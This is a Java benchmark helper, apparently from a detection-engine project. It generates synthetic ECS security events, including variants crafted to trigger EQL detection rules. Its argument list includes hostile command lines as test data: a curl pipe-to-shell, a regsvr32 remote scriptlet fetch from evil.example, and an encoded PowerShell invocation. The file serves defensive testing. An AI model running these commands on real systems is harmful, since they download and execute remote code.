package io.verdict.bench;

import io.verdict.Shared;
import io.verdict.eql.CompiledEql;
import io.verdict.eql.EqlCompiler;
import io.verdict.eql.ast.Expr;
import io.verdict.eql.ast.Query;
import io.verdict.rule.Language;
import io.verdict.rule.Rule;
import io.verdict.rule.RuleDirectories;
import io.verdict.rule.RuleLoader;
import io.verdict.rule.RuleSet;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * The documents the engine benchmarks and the index differential test run: every real ECS document of
 * {@code shared/corpus/ecs-events}, plus deterministic variants of them (a fixed seed) with other hosts, users,
 * processes and command lines, a share of which is crafted to match rules: the literals an EQL rule's conditions
 * require ({@code process.name == "x"}, {@code : "x"}, {@code in ("x", ...)} joined by {@code and}) written into a
 * real document of the rule's event category. Fails with a clear message (a skipped test under JUnit) where the
 * shared material is absent.
 */
public final class CorpusEvents {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String[] HOSTS = {
        "fin-ws-042",
        "dc01",
        "web-prod-7",
        "laptop-jdoe",
        "build-agent-3",
        "sql02.corp.local",
        "ip-10-0-3-17",
        "mac-studio-11"
    };
    private static final String[] USERS = {
        "j.doe", "SYSTEM", "root", "svc_backup", "alice", "Administrator", "www-data", "m.rossi"
    };
    private static final String[] PROCESSES = {
        "powershell.exe",
        "cmd.exe",
        "rundll32.exe",
        "svchost.exe",
        "bash",
        "python3",
        "curl",
        "explorer.exe",
        "chrome.exe",
        "sshd",
        "osascript",
        "regsvr32.exe",
        "java",
        "node"
    };
    private static final String[] ARGUMENTS = {
        "-enc SQBFAFgA",
        "/c whoami /all",
        "-c 'curl http://10.0.0.5/x | sh'",
        "copy \\\\fs01\\finance :s3:bucket",
        "--no-sandbox",
        "-ExecutionPolicy Bypass -File run.ps1",
        "/s /i:http://evil.example/x.sct scrobj.dll",
        "-m http.server 8000"
    };

    private CorpusEvents() {}

    /** Every real document, one JSON text each, files in name order. */
    public static List<String> real() {
        Path dir = Shared.require("corpus/ecs-events");
        List<String> lines = new ArrayList<>();
        try (Stream<Path> files = Files.list(dir)) {
            for (Path file :
                    files.filter(f -> f.toString().endsWith(".ndjson")).sorted().toList()) {
                for (String line : Files.readAllLines(file, StandardCharsets.UTF_8)) {
                    if (!line.isBlank()) {
                        lines.add(line);
                    }
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return lines;
    }

    /** The whole Elastic rule corpus. */
    public static RuleSet rules() {
        return new RuleDirectories(new RuleLoader(), Clock.systemUTC())
                .load(List.of(Shared.require("corpus/detection-rules")));
    }

    /** The real documents followed by {@code generated} variants; the same every run. */
    public static List<String> realAndGenerated(RuleSet rules, int generated) {
        List<String> real = real();
        List<String> all = new ArrayList<>(real);
        all.addAll(variants(real, crafts(rules), generated, 42));
        return all;
    }

    /**
     * {@code count} variants of the real documents: each a copy with host, user, process and command line
     * replaced; one in five also carries the required literals of a rule (and its category).
     */
    public static List<String> variants(List<String> real, List<Craft> crafts, int count, long seed) {
        Random random = new Random(seed);
        List<ObjectNode> documents =
                real.stream().map(l -> (ObjectNode) JSON.readTree(l)).toList();
        Map<String, List<ObjectNode>> byCategory = new LinkedHashMap<>();
        for (ObjectNode d : documents) {
            JsonNode category = d.path("event").path("category");
            for (JsonNode c :
                    category.isArray() ? category : JSON.createArrayNode().add(category)) {
                if (c.isString()) {
                    byCategory
                            .computeIfAbsent(c.stringValue(), k -> new ArrayList<>())
                            .add(d);
                }
            }
        }
        List<String> out = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            boolean crafted = !crafts.isEmpty() && random.nextInt(5) == 0;
            Craft craft = crafted ? crafts.get(random.nextInt(crafts.size())) : null;
            List<ObjectNode> pool =
                    craft != null && craft.category() != null && byCategory.containsKey(craft.category())
                            ? byCategory.get(craft.category())
                            : documents;
            ObjectNode copy = pool.get(random.nextInt(pool.size())).deepCopy();
            vary(copy, random);
            if (craft != null) {
                if (craft.category() != null) {
                    put(copy, "event.category", craft.category());
                }
                craft.fields().forEach((field, value) -> put(copy, field, value));
            }
            out.add(copy.toString());
        }
        return out;
    }

    private static void vary(ObjectNode d, Random random) {
        put(d, "host.name", HOSTS[random.nextInt(HOSTS.length)]);
        put(d, "user.name", USERS[random.nextInt(USERS.length)]);
        if (d.has("process") || d.has("process.name")) {
            String name = PROCESSES[random.nextInt(PROCESSES.length)];
            String args = ARGUMENTS[random.nextInt(ARGUMENTS.length)];
            put(d, "process.name", name);
            put(d, "process.command_line", name + " " + args);
            put(d, "process.pid", String.valueOf(1000 + random.nextInt(60000)));
        }
    }

    /** Sets a dotted field, descending into the objects the document already has. */
    static void put(ObjectNode root, String field, String value) {
        ObjectNode node = root;
        String[] segments = field.split("\\.");
        for (int i = 0; i < segments.length - 1; i++) {
            JsonNode child = node.get(segments[i]);
            if (child == null) {
                child = node.putObject(segments[i]);
            }
            if (!child.isObject()) {
                node.put(String.join(".", java.util.Arrays.copyOfRange(segments, i, segments.length)), value);
                return;
            }
            node = (ObjectNode) child;
        }
        JsonNode old = node.get(segments[segments.length - 1]);
        if (old instanceof ArrayNode) {
            node.putArray(segments[segments.length - 1]).add(value);
        } else {
            node.put(segments[segments.length - 1], value);
        }
    }

    /** What a crafted document carries for one rule: its category and the literal each required field holds. */
    public record Craft(String category, Map<String, String> fields) {}

    /** The required literals of each single-event EQL rule with at least one, in rule order. */
    public static List<Craft> crafts(RuleSet rules) {
        EqlCompiler compiler = new EqlCompiler();
        List<Craft> crafts = new ArrayList<>();
        for (Rule rule : rules.rules()) {
            if (rule.query() == null
                    || rule.query().language() != Language.EQL
                    || rule.query().text() == null) {
                continue;
            }
            CompiledEql eql;
            try {
                eql = compiler.compile(rule.query().text(), io.verdict.eql.EqlOptions.defaults());
            } catch (RuntimeException notCompiled) {
                continue;
            }
            if (eql.ast() instanceof Query.EventQuery q) {
                Map<String, String> fields = new LinkedHashMap<>();
                conjuncts(q.filter().condition(), fields);
                if (!fields.isEmpty()) {
                    crafts.add(new Craft(q.filter().category(), fields));
                }
            }
        }
        return crafts;
    }

    private static void conjuncts(Expr e, Map<String, String> fields) {
        if (e instanceof Expr.And a) {
            a.operands().forEach(operand -> conjuncts(operand, fields));
        } else if (e instanceof Expr.Comparison c
                && c.op() == Expr.CompareOp.EQ
                && c.left() instanceof Expr.Field f
                && c.right() instanceof Expr.Literal l
                && l.value() instanceof String s) {
            fields.putIfAbsent(f.name(), s);
        } else if (e instanceof Expr.Match m
                && m.op() != Expr.MatchOp.REGEX
                && m.value() instanceof Expr.Field f
                && m.patterns().get(0) instanceof Expr.Literal l
                && l.value() instanceof String s) {
            fields.putIfAbsent(f.name(), s.replace("*", "x").replace("?", "y"));
        } else if (e instanceof Expr.In in
                && !in.negated()
                && in.value() instanceof Expr.Field f
                && in.list().get(0) instanceof Expr.Literal l
                && l.value() instanceof String s) {
            fields.putIfAbsent(f.name(), s);
        }
    }
}
